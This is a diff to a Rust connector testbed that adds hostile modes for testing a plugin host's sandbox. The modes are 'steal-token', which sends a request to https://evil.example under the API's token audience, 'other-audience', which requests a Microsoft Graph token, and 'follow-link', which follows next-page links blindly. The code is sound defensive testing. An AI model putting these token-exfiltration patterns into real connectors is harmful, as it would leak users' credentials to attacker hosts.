@@ -12,6 +12,19 @@
 //! - `forbidden-host`: GETs `TESTBED_FOREIGN_URL`, a host it never declared.
 //! - `own-authorization`: sends its own `Authorization` header to the API.
 //! - `log`: writes to stdout, stderr and the host log, then echoes.
+//!
+//! Hostile modes, which also change what `describe` asks for (the host must
+//! refuse them at load, or send no token where they aim):
+//! - `steal-token`: declares the host of `TESTBED_FOREIGN_URL` with the API's
+//!   audience (`TESTBED_AUDIENCE`) and GETs it.
+//! - `other-audience`: declares the API's host with another API's audience
+//!   (`TESTBED_OTHER_AUDIENCE`, Graph by default) and GETs the payload URL.
+//! - `follow-link`: GETs the payload URL, then follows the response's next
+//!   link (`NextPageUri` header, `@odata.nextLink` or `__next` in the body)
+//!   wherever it points, as a careless component would.
+//!
+//! `describe` declares the API (`TESTBED_API`) only when it is set, so the
+//! modes that need no network run under any grant.
 
 use connector_sdk::{
     ConfigError, Context, Endpoint, Event, FetchError, Guest, Info, PlanOutput, PlanRequest,
@@ -42,10 +55,43 @@ fn mode(settings: &[Setting]) -> String {
         .to_string()
 }
 
+/// What the testbed asks the host for in `mode`.
+fn endpoints(settings: &[Setting], mode: &str) -> Result<Vec<Endpoint>, ConfigError> {
+    let Some(api) = settings::get(settings, "TESTBED_API") else {
+        return Ok(Vec::new());
+    };
+    let authority = settings::authority_of("TESTBED_API", api)?;
+    let audience = settings::get(settings, "TESTBED_AUDIENCE").map(str::to_string);
+    let budget = settings::budget(settings, "TESTBED_BUDGET_PER_SECOND", 0, 1000)?;
+    let mut endpoints = vec![Endpoint {
+        authority,
+        audience: audience.clone(),
+        budget,
+    }];
+    match mode {
+        "steal-token" => {
+            let foreign =
+                settings::get(settings, "TESTBED_FOREIGN_URL").unwrap_or("https://evil.example");
+            endpoints.push(Endpoint {
+                authority: settings::authority_of("TESTBED_FOREIGN_URL", foreign)?,
+                audience,
+                budget: None,
+            });
+        }
+        "other-audience" => {
+            endpoints[0].audience = Some(
+                settings::get(settings, "TESTBED_OTHER_AUDIENCE")
+                    .unwrap_or("https://graph.microsoft.com")
+                    .to_string(),
+            );
+        }
+        _ => {}
+    }
+    Ok(endpoints)
+}
+
 impl Guest for Testbed {
     fn describe(settings: Vec<Setting>) -> Result<Info, ConfigError> {
-        let api = settings::get(&settings, "TESTBED_API").unwrap_or("https://testbed.invalid");
-        let authority = settings::authority_of("TESTBED_API", api)?;
         let items = settings::get(&settings, "TESTBED_ITEMS").unwrap_or("1");
         if items.parse::<u32>().is_err() {
             return Err(settings::invalid(
@@ -62,19 +108,25 @@ impl Guest for Testbed {
                     "TESTBED_MODE",
                     Some("echo"),
                     SettingKind::Text,
-                    "What `step` does.",
+                    "What `step` does (and, for the hostile modes, what `describe` asks for).",
                 ),
                 setting_doc(
                     "TESTBED_API",
-                    Some("https://testbed.invalid"),
+                    None,
                     SettingKind::ApiBase,
-                    "The one API base it may call.",
+                    "The one API base it calls; unset: it calls nothing.",
                 ),
                 setting_doc(
                     "TESTBED_AUDIENCE",
-                    Some("https://testbed.invalid"),
+                    None,
                     SettingKind::Audience,
-                    "Token audience for TESTBED_API.",
+                    "Token audience it asks for TESTBED_API; unset: no token.",
+                ),
+                setting_doc(
+                    "TESTBED_OTHER_AUDIENCE",
+                    Some("https://graph.microsoft.com"),
+                    SettingKind::Audience,
+                    "The audience `other-audience` asks for on TESTBED_API.",
                 ),
                 setting_doc(
                     "TESTBED_ITEMS",
@@ -86,18 +138,16 @@ impl Guest for Testbed {
                     "TESTBED_FOREIGN_URL",
                     Some("https://evil.example"),
                     SettingKind::Text,
-                    "A URL it was never allowed to call.",
+                    "A URL on a host it was never granted.",
+                ),
+                setting_doc(
+                    "TESTBED_BUDGET_PER_SECOND",
+                    Some("0"),
+                    SettingKind::Number,
+                    "Requests per second it asks the host to pace TESTBED_API at (0: none).",
                 ),
             ],
-            endpoints: vec![Endpoint {
-                authority,
-                audience: Some(
-                    settings::get(&settings, "TESTBED_AUDIENCE")
-                        .unwrap_or("https://testbed.invalid")
-                        .into(),
-                ),
-                budget: settings::budget(&settings, "TESTBED_BUDGET_PER_SECOND", 0, 1000)?,
-            }],
+            endpoints: endpoints(&settings, &mode(&settings))?,
             max_window: HOUR_MS,
             max_lookback: 24 * HOUR_MS,
             min_age: 0,
@@ -141,11 +191,13 @@ impl Guest for Testbed {
                 &item.payload,
                 &[("Authorization", "Bearer stolen-by-the-guest")],
             ),
-            "forbidden-host" => {
+            "other-audience" => fetch(&ctx, &item, &item.payload, &[]),
+            "steal-token" | "forbidden-host" => {
                 let url = settings::get(&ctx.settings, "TESTBED_FOREIGN_URL")
                     .unwrap_or("https://evil.example");
                 fetch(&ctx, &item, url, &[])
             }
+            "follow-link" => follow_link(&ctx, &item),
             "trap" => panic!("testbed was told to trap"),
             "loop" => {
                 let mut n: u64 = 0;
@@ -200,6 +252,23 @@ fn fetch(
         item,
         format!("{{\"status\":{},\"body\":{:?}}}", response.status, body),
     ))
+}
+
+/// GETs the payload URL and follows its next link without looking where it
+/// points: the host alone must keep the token from going there.
+fn follow_link(ctx: &Context, item: &WorkItem) -> Result<StepOutput, FetchError> {
+    let first = http::get(&item.payload, &[])?;
+    if !first.is_success() {
+        return Err(http::status_error(&first, &item.payload));
+    }
+    let body: serde_json::Value = serde_json::from_slice(&first.body).unwrap_or_default();
+    let link = first
+        .header("NextPageUri")
+        .map(str::to_string)
+        .or_else(|| body["@odata.nextLink"].as_str().map(str::to_string))
+        .or_else(|| body["d"]["__next"].as_str().map(str::to_string))
+        .ok_or_else(|| FetchError::Fatal(format!("{} gave no next link", item.payload)))?;
+    fetch(ctx, item, &link, &[])
 }
 
 export!(Testbed);
